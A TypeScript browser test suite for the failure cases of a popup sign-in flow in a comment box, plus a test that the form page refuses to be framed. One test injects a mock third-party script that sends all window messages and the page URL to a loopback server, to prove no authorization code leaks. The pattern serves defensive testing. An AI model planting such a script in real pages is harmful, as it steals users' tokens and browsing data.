/** Every way that a sync ends other than well: in words, with a way on, and with the reader's text where it was. */

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, afterEach, before, describe, it } from 'node:test';
import { closeServer, listen } from '../lib/loopback-server.ts';
import {
  allow, allowButton, answer, clickToClose, finishButton, finishInPage, openSignIn, signIn, startStage,
  write, type Stage, type Visitor,
} from './_stage.ts';

describe('a sync that does not go well', () => {
  let stage: Stage;
  before(async () => { stage = await startStage(); });
  after(() => stage[Symbol.asyncDispose]());
  afterEach(async () => {
    stage.demo.service.faults.clear();
    stage.demo.service.openerPolicy = undefined;
    stage.demo.service.alreadyGranted.clear();
  });

  async function keepsText({ box }: Visitor, text: string): Promise<void> {
    assert.equal(await box.getByLabel('Your comment').inputValue(), text);
    await box.getByRole('button', { name: 'Sign in to post' }).waitFor();
  }

  it('because the reader denied it says so, there and in the box, also if the box asks before the window has loaded', async () => {
    await using visitor = await stage.reader();
    await visitor.open();
    await write(visitor, 'denied');
    const popup = await openSignIn(visitor);
    await popup.route(/\/session$/, async (route) => {
      await visitor.page.waitForResponse(/\/session\?watch/);
      await route.continue();
    });
    await popup.getByRole('button', { name: 'Deny' }).click();
    await popup.getByText('Access was not allowed').first().waitFor();
    await clickToClose(popup, popup.getByRole('button', { name: 'Close this window' }));
    await keepsText(visitor, 'denied');
  });

  it('because access had been granted before says what to do', async () => {
    await using visitor = await stage.reader();
    const [ada] = stage.demo.service.readers;
    stage.demo.service.alreadyGranted.add(ada?.user_id ?? '');
    await visitor.open();
    await write(visitor, 'granted before');
    const popup = await openSignIn(visitor);
    await popup.getByText('Ada Quill').click();
    await clickToClose(popup, allowButton(popup));
    await visitor.box.getByText('Withdraw this site’s access in your account there').waitFor();
    await keepsText(visitor, 'granted before');
  });

  it('because the service is down at the exchange lets the reader try again, with the code unspent', async () => {
    await using visitor = await stage.reader();
    await visitor.open();
    await write(visitor, 'down');
    const popup = await openSignIn(visitor);
    await allow(popup);
    await popup.getByLabel(/Your age/).waitFor();
    await stage.demo.service.down();
    await answer(popup);
    await popup.getByText(/not available right now/).first().waitFor();
    await stage.demo.service.up();
    await clickToClose(popup, finishButton(popup));
    await visitor.box.getByText(/Commenting as/).waitFor();
    assert.equal(await visitor.box.getByLabel('Your comment').inputValue(), 'down');
  });

  it('because the service refused the code ends in words and a way to begin again', async () => {
    await using visitor = await stage.reader();
    await visitor.open();
    const popup = await openSignIn(visitor);
    await allow(popup);
    stage.demo.service.faults.next('token', { kind: 'status', status: 400, body: { error: 'invalid_grant' } });
    await answer(popup);
    await popup.getByText('The sign-in failed').waitFor();
    await popup.getByRole('button').or(popup.getByRole('link')).first().waitFor();
  });

  it('because the code belongs to another user creates no session', async () => {
    await using visitor = await stage.reader();
    await visitor.open();
    const popup = await openSignIn(visitor);
    stage.demo.service.faults.next('token', { kind: 'rewrite', change: (body) => ({ ...(body as object), user_id: '99999' }) });
    await allow(popup);
    await answer(popup);
    await popup.getByText(/different account/).first().waitFor();
    await visitor.page.bringToFront();
    await keepsText(visitor, '');
  });

  it('because a link was used before, in another browser, says so', async () => {
    const redirectUri = `${stage.demo.url}/vestibule/sync/return`;
    const link = `${redirectUri}?${new URLSearchParams({ ...stage.demo.service.issueReturn({ redirectUri }) })}`;
    for (const expected of [/Your age/, /already been used/]) {
      await using visitor = await stage.reader();
      const { page } = visitor;
      await page.goto(link);
      await page.getByRole('button', { name: /Continue as/ }).click();
      await page.getByText(expected).first().waitFor();
    }
  });

  it('because the browser blocked the window goes on in the page itself on the reader’s click, with the text', async () => {
    await using visitor = await stage.reader();
    await visitor.page.addInitScript(() => { window.open = () => null; });
    await visitor.open();
    await write(visitor, 'blocked');
    await visitor.box.getByRole('button', { name: 'Sign in to post' }).click();
    await visitor.box.getByText(/blocked the sign-in window/).waitFor();
    await visitor.box.getByRole('button', { name: 'Continue in this page' }).click();
    await finishInPage(visitor);
    await visitor.open();
    await visitor.box.getByText(/Commenting as/).waitFor();
    assert.equal(await visitor.box.getByLabel('Your comment').inputValue(), 'blocked');
  });

  it('because the reader closed the window leaves the box as it was', async () => {
    await using visitor = await stage.reader();
    await visitor.open();
    await write(visitor, 'closed');
    const popup = await openSignIn(visitor);
    await popup.getByRole('button', { name: 'Allow' }).waitFor();
    await popup.close();
    await visitor.page.bringToFront();
    await visitor.box.getByRole('button', { name: /Open it again|Sign in to post/ }).first().waitFor();
    assert.equal(await visitor.box.getByLabel('Your comment').inputValue(), 'closed');
  });

  it('although the service cuts the handle to the window (Cross-Origin-Opener-Policy) goes well: the box asks the BFF', async () => {
    stage.demo.service.openerPolicy = 'same-origin';
    await using visitor = await stage.reader();
    await visitor.open();
    await write(visitor, 'cut off');
    const popup = await openSignIn(visitor);
    await allow(popup);
    // The window may close before the click is reported.
    await answer(popup).catch((error: unknown) => { if (!popup.isClosed()) throw error; });
    await visitor.box.getByText(/Commenting as/).waitFor();
    assert.equal(await visitor.box.getByLabel('Your comment').inputValue(), 'cut off');
  });

  it('because the page has no network says so and keeps the text', async () => {
    await using visitor = await stage.reader();
    await visitor.open();
    await signIn(visitor);
    await write(visitor, 'offline');
    await visitor.context.setOffline(true);
    await visitor.box.getByRole('button', { name: 'Post comment' }).click();
    await visitor.box.getByText(/offline/i).first().waitFor();
    assert.equal(await visitor.box.getByLabel('Your comment').inputValue(), 'offline');
    await visitor.context.setOffline(false);
    const before = stage.demo.service.posts.length;
    const retry = visitor.box.getByRole('button', { name: /Try again|Post comment/ });
    await Promise.race([visitor.box.getByText('Your comment is posted.').waitFor(), retry.click()]);
    await visitor.box.getByText('Your comment is posted.').waitFor();
    assert.equal(stage.demo.service.posts.length, before + 1);
  });

  it('reveals no code to a third party on the page: by referrer, message or address', async () => {
    const seen: string[] = [];
    const thirdParty = createServer((req, res) => {
      seen.push(`${req.url} ${JSON.stringify(req.headers)}`);
      res.setHeader('Access-Control-Allow-Origin', '*').end('ok');
    });
    const address = `${await listen(thirdParty)}/pixel`;
    await using visitor = await stage.reader({ bypassCSP: true });
    await visitor.context.addInitScript((url) => {
      window.addEventListener('message', (event) => { void fetch(`${url}?message=${encodeURIComponent(JSON.stringify(event.data))}`, { mode: 'no-cors' }); });
      const tell = () => { new Image().src = `${url}?href=${encodeURIComponent(location.href)}`; };
      document.addEventListener('DOMContentLoaded', () => { setTimeout(tell, 50); setTimeout(tell, 500); });
    }, address);
    await visitor.open();
    await signIn(visitor);
    await closeServer(thirdParty);
    const codes = stage.demo.service.requests.filter(({ endpoint }) => endpoint === 'token').map(({ body }) => new URLSearchParams(body.toString()).get('code') ?? '');
    assert.ok(seen.length > 0 && codes.length > 0);
    assert.deepEqual(seen.filter((line) => codes.some((code) => line.includes(code))), []);
  });
});

describe('the form page', () => {
  it('refuses to be framed, in a browser', async () => {
    await using stage = await startStage();
    const framing = createServer((_req, res) => {
      res.setHeader('Content-Type', 'text/html').end(`<iframe src="${stage.demo.url}/vestibule/sync/form"></iframe>`);
    });
    const address = await listen(framing);
    await using visitor = await stage.reader();
    await visitor.page.goto(address);
    await visitor.page.waitForLoadState('networkidle');
    const [, frame] = visitor.page.frames();
    assert.equal(await frame?.locator('vestibule-sync').count().catch(() => 0), 0);
    assert.ok(visitor.complaints.some((complaint) => /frame-ancestors|X-Frame-Options/i.test(complaint)));
    await closeServer(framing);
  });
});
